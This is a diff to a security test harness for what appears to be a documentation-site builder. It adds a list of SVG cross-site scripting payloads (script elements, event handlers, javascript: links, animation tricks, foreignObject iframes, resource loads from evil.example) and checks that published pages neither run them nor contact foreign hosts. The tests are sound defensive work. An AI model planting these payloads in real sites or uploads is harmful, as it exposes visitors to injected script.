@@ -1,8 +1,11 @@
 import { execFileSync } from 'node:child_process';
 import { createHash } from 'node:crypto';
-import { existsSync } from 'node:fs';
+import { existsSync, readFileSync } from 'node:fs';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { userInfo } from 'node:os';
 import { join } from 'node:path';
+import type { BrowserContextOptions } from 'playwright-core';
 import { SaxesParser } from 'saxes';
 import { expect, onTestFinished } from 'vitest';
 import {
@@ -12,6 +15,7 @@ import {
 	openPage,
 	type WatchedPage,
 } from '../../harness/open-browser.ts';
+import { vectors } from '../../security/vectors.ts';
 import { byTests, runTests } from '../by-tests.ts';
 import type { Rows } from '../row.ts';
 import { buildOf, errorsOf, plainConfig, serveOf, siteOf } from '../sites.ts';
@@ -117,18 +121,66 @@ const domNames =
 		' ',
 	);
 
-/** Opens an address in Chromium until the row ends; `dialogs` are the texts that something has asked with. */
-async function visit(address: string): Promise<WatchedPage & { dialogs: string[] }> {
+/** Drawings, whole or the inside of one, that would run or load something where they are opened. */
+const svgPayloads = [
+	'<script>alert(1)</script>',
+	'<script href="data:text/javascript,alert(1)"/>',
+	'<script xlink:href="https://evil.example/x.js"/>',
+	'<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>',
+	'<g><![CDATA[</g><script>alert(1)</script>]]></g>',
+	'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
+	'<s:svg xmlns:s="http://www.w3.org/2000/svg" onload="alert(1)"><s:script>alert(2)</s:script></s:svg>'.replace(
+		/^<s:svg/,
+		'<!-- a --><s:svg',
+	),
+	'<g onclick="alert(1)" onfocus="alert(2)" tabindex="0" autofocus="autofocus"><text>a</text></g>',
+	'<a xlink:href="javascript:alert(1)"><text y="20">a</text></a>',
+	'<a href=" java&#10;script:alert(1)"><text y="20">a</text></a>',
+	'<a href="data:text/html,&lt;script>alert(1)&lt;/script>"><text y="20">a</text></a>',
+	'<a><set attributeName="href" to="javascript:alert(1)"/><text y="20">a</text></a>',
+	'<a><animate attributeName="xlink:href" values="javascript:alert(1)" begin="0s"/><text y="20">a</text></a>',
+	'<animate onbegin="alert(1)" attributeName="x" dur="1s"/>',
+	'<set attributeName="onmouseover" to="alert(1)"/>',
+	"<use href=\"data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>#x\"/>",
+	'<use href="https://evil.example/x.svg#x"/>',
+	'<image href="https://evil.example/x.png" width="9" height="9"/>',
+	'<style>@import "https://evil.example/x.css";</style>',
+	'<style>text { fill: url(https://evil.example/x.svg#a); }</style><text>a</text>',
+	'<rect width="9" height="9" style="fill: url(https://evil.example/y.svg#a)"/>',
+	'<rect width="9" height="9" fill="url(https://evil.example/z.svg#a)"/>',
+	'<foreignObject width="99" height="99"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>',
+	'<foreignObject width="99" height="99"><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"><img src="x" onerror="alert(2)"/></body></foreignObject>',
+	'<foreignObject width="99" height="99"><form xmlns="http://www.w3.org/1999/xhtml" action="https://evil.example/"><input/></form></foreignObject>',
+	'<handler xmlns="http://www.w3.org/2000/svg" type="text/javascript">alert(1)</handler>',
+	'<?xml version="1.0"?>\n<?xml-stylesheet href="https://evil.example/x.css"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>',
+	'<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>',
+];
+
+/**
+ * Opens an address in Chromium until the row ends; `dialogs` are the texts that something has asked with, `foreign` what it has asked
+ * other hosts for, pictures of pages apart, which authors may show.
+ */
+async function visit(
+	address: string,
+	options: BrowserContextOptions = {},
+): Promise<WatchedPage & { dialogs: string[]; foreign: string[] }> {
 	const browser = await launchBrowser();
 	onTestFinished(() => browser.close());
-	const opened = await openPage(browser);
+	const opened = await openPage(browser, options);
 	const dialogs: string[] = [];
+	const foreign: string[] = [];
+	const { host } = new URL(address);
+	opened.page.on('request', (request) => {
+		const asked = new URL(request.url());
+		const isPicture = request.resourceType() === 'image' && !request.frame().url().endsWith('.svg');
+		if (/^https?:/.test(asked.protocol) && asked.host !== host && !isPicture) foreign.push(request.url());
+	});
 	opened.page.on('dialog', (dialog) => {
 		dialogs.push(dialog.message());
 		void dialog.dismiss();
 	});
 	await opened.page.goto(address);
-	return { ...opened, dialogs };
+	return { ...opened, dialogs, foreign };
 }
 
 /** Values of a query and fragments that mean nothing. */
@@ -178,10 +230,44 @@ function faultOfXml(text: string): string {
 
 /** What is published of what authors write. */
 export const outputRows: Rows = {
-	'OS-01': byTests(
-		{ files: 'tests/security/xss.test.ts', named: 'OS-01' },
-		{ files: fixtures, named: 'html-removed' },
-	),
+	'OS-01': {
+		how: 'from outside without any policy, and by tests/security/xss.test.ts and tests/fixtures.test.ts',
+		check: async () => {
+			const said = [
+				'unsafe-link',
+				'broken-link',
+				'missing-asset',
+				'image-insecure',
+				'image-unreadable',
+				'broken-anchor',
+				'unknown-component',
+				'include-missing',
+			];
+			const severity = JSON.stringify(Object.fromEntries(said.map((name) => [name, 'warning'])));
+			// Words of a hero may be inline HTML too.
+			const hero = `---\npageLayout: home\ntitle: Home\nconfig:\n${vectors.map((vector) => `  - { type: hero, hero: { name: ${JSON.stringify(vector)}, tagline: ${JSON.stringify(vector)}, text: ${JSON.stringify(vector)} } }\n`).join('')}---\n`;
+			const pages = vectors.map((vector, index): [string, string] => [
+				`content/v${index}.md`,
+				`---\ntitle: A\n---\n\n${vector}\n\nAfter *it*.\n`,
+			]);
+			const site = siteOf({
+				...Object.fromEntries(pages),
+				'content/README.md': hero,
+				'site.config.ts': `export default { title: 'Docs', history: false, sourceRedirects: false, checks: { severity: ${severity} } };\n`,
+			});
+			const built = await buildOf(site);
+			expect([built.code, errorsOf(built)]).toEqual([0, []]);
+			expect(
+				built.messages.filter(({ name, line, column }) => name === 'html-removed' && line && column).length,
+			).toBeGreaterThan(50);
+			const { url } = await serveOf(site);
+			const { page, dialogs, foreign } = await visit(url, { bypassCSP: true });
+			for (const index of vectors.keys()) await page.goto(`${url}/v${index}/`);
+			expect([dialogs, foreign]).toEqual([[], []]);
+			await runTests({ files: 'tests/security/xss.test.ts', named: 'OS-01' });
+			await runTests({ files: fixtures, named: 'html-removed' });
+		},
+	},
 	'OS-02': byTests(
 		{ files: 'tests/security/xss.test.ts', named: 'OS-02' },
 		{ files: fixtures, named: 'unsafe-link' },
@@ -240,18 +326,61 @@ export const outputRows: Rows = {
 	},
 	'OS-06': byTests({ files: 'tests/cli/markdown/code/fence-info.test.ts' }),
 	'OS-07': {
+		how: 'from outside, without the headers and with them, and by tests/cli/images/scrub-svg-file.test.ts',
 		check: async () => {
-			const drawing =
-				'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script><a href="javascript:alert(3)"><text>a</text></a></svg>';
+			const drawings = svgPayloads.map((inside, index): [string, string] => [
+				`content/public/x${index}.svg`,
+				inside.startsWith('<?') || inside.startsWith('<!') || inside.startsWith('<svg')
+					? inside
+					: `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">${inside}</svg>`,
+			]);
+			expect(drawings.length).toBeGreaterThanOrEqual(25);
+			const shown = drawings.map((_, index) => `![a](/x${index}.svg)`).join('\n\n');
+			const inline = drawings
+				.map(([, text]) => text.replaceAll('\n', ' '))
+				.filter((text) => text.startsWith('<svg'));
 			const site = siteOf({
-				'content/public/x.svg': drawing,
-				'content/a.md': '# A\n\n![a](./y.svg)\n',
-				'content/y.svg': drawing,
+				...Object.fromEntries(drawings),
+				'content/a.md': `# A\n\n${shown}\n\n${inline.join('\n\n')}\n`,
+				'content/b.md': '# B\n\n![b](./y.svg)\n',
+				'content/y.svg': drawings[0]![1],
 			});
-			expect((await buildOf(site)).code).toBe(0);
-			const drawings = Object.entries(site.outputs()).filter(([path]) => path.endsWith('.svg'));
-			expect(drawings.length).toBeGreaterThanOrEqual(2);
-			for (const [path, text] of drawings) expect([path, /alert/.test(text)]).toEqual([path, false]);
+			const built = await buildOf(site);
+			expect([built.code, errorsOf(built)]).toEqual([0, []]);
+			const published = Object.keys(site.outputs()).filter((path) => path.endsWith('.svg'));
+			expect(published.length).toBeGreaterThan(drawings.length);
+			const { url } = await serveOf(site);
+			// A host that sends nothing but a type.
+			const plain = createServer((request, response) => {
+				const path = decodeURIComponent(request.url!.slice(1)) || 'index.html';
+				const file = join(site.root, 'dist', path.endsWith('/') ? `${path}index.html` : path);
+				if (!existsSync(file)) return void response.writeHead(404).end();
+				response.writeHead(200, {
+					'content-type': file.endsWith('.svg')
+						? 'image/svg+xml'
+						: file.endsWith('.js')
+							? 'text/javascript'
+							: file.endsWith('.css')
+								? 'text/css'
+								: 'text/html',
+				});
+				response.end(readFileSync(file));
+			});
+			await new Promise<void>((done) => plain.listen(0, '127.0.0.1', done));
+			onTestFinished(() => void plain.close());
+			for (const root of [`http://127.0.0.1:${(plain.address() as AddressInfo).port}`, url]) {
+				const { page, dialogs, foreign } = await visit(`${root}/a/`, { bypassCSP: root !== url });
+				for (const path of published) {
+					await page.goto(`${root}/${path}`);
+					await page
+						.locator('a')
+						.first()
+						.dispatchEvent('click', {}, { timeout: 1 })
+						.catch(() => undefined);
+				}
+				expect([root === url, dialogs, foreign]).toEqual([root === url, [], []]);
+			}
+			await runTests({ files: 'tests/cli/images/scrub-svg-file.test.ts' });
 		},
 	},
 	'OS-08': {
